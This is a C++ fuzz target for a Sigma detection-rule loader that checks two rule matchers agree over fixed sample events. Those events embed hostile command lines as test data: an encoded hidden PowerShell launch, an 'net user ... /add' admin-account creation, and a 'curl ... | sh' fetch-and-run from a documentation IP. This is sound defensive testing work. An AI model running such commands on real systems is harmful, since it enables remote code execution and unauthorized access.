// Fuzz target: the Sigma rule loader. The input is a YAML file of one or more documents (rules,
// correlations, filters, collection actions). Loading must never crash, hang or throw; what
// loads is then run over a few fixed events by both matchers, which must agree (the indexed,
// prefiltered Matcher against the plain ReferenceMatcher), and the hits feed the correlation
// engine, so a rule that loads is also a rule that runs safely.
#include <cstdint>
#include <string_view>
#include <vector>

#include "detect/correlation.h"
#include "detect/matcher.h"
#include "detect/ruleset.h"
#include "fuzz_sinks.h"

namespace {

using vigil::Event;

void sysmon_event(Event& ev) {
  ev.clear();
  ev.begin_object("Event");
  ev.begin_object("System");
  ev.add_string("Channel", "Microsoft-Windows-Sysmon/Operational");
  ev.add_int("EventID", 1);
  ev.add_string("Computer", "WS-01.corp.local");
  ev.end_container();
  ev.begin_object("EventData");
  ev.add_string("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
  ev.add_string("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==");
  ev.add_string("ParentImage", "C:\\Windows\\explorer.exe");
  ev.add_string("User", "CORP\\alice");
  ev.add_string("Hashes", "SHA256=0A1B2C3D,MD5=99AA");
  ev.add_string("DestinationIp", "10.1.2.3");
  ev.end_container();
  ev.end_container();
}

void security_event(Event& ev) {
  ev.clear();
  ev.begin_object("Event");
  ev.begin_object("System");
  ev.add_string("Channel", "Security");
  ev.add_int("EventID", 4688);
  ev.end_container();
  ev.begin_object("EventData");
  ev.add_string("NewProcessName", "C:\\Windows\\System32\\cmd.exe");
  ev.add_string("CommandLine", "cmd /c whoami /all & net user admin P@ss /add");
  ev.add_string("SubjectUserName", "bob");
  ev.add_int("LogonType", 3);
  ev.end_container();
  ev.end_container();
}

void flat_event(Event& ev) {
  ev.clear();
  ev.add_string("EventID", "4625");
  ev.add_string("Channel", "Security");
  ev.add_string("a", "b");
  ev.add_double("score", 7.5);
  ev.add_bool("flag", true);
  ev.add_null("empty");
  ev.begin_object("process");
  ev.add_string("command_line", "curl http://203.0.113.9/x.sh | sh");
  ev.add_string("name", "curl");
  ev.end_container();
  ev.begin_array("list");
  ev.add_string("", "one");
  ev.add_int("", 2);
  ev.end_container();
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  using namespace vigil;
  std::string_view text(reinterpret_cast<const char*>(data), size);
  sigma::LoadOptions options;
  sigma::LoadReport report;
  sigma::RuleSet rules = sigma::RuleSet::from_yaml(text, options, &report, "fuzz.yml");
  if (report.loaded != rules.rules().size()) fuzz::invariant_failed("loaded count differs");
  if (rules.rules().empty()) return 0;

  sigma::Matcher matcher(rules);
  sigma::ReferenceMatcher reference(rules);
  sigma::CorrelationEngine correlations(rules, 64);
  std::vector<sigma::CorrelationDetection> found;
  std::vector<uint32_t> fast, slow;
  Event ev;
  void (*makers[])(Event&) = {sysmon_event, security_event, flat_event};
  int64_t t = 1'700'000'000'000'000;
  for (int round = 0; round < 2; ++round) {
    for (auto make : makers) {
      make(ev);
      matcher.match(ev, &fast);
      reference.match(ev, &slow);
      if (fast != slow) fuzz::invariant_failed("Matcher and ReferenceMatcher disagree");
      for (uint32_t r : fast) {
        if (r >= rules.rules().size()) fuzz::invariant_failed("hit index out of range");
        correlations.add(r, t, static_cast<uint64_t>(t), ev, &found);
      }
      t += 1'000'000;
    }
  }
  correlations.flush(&found);
  return 0;
}
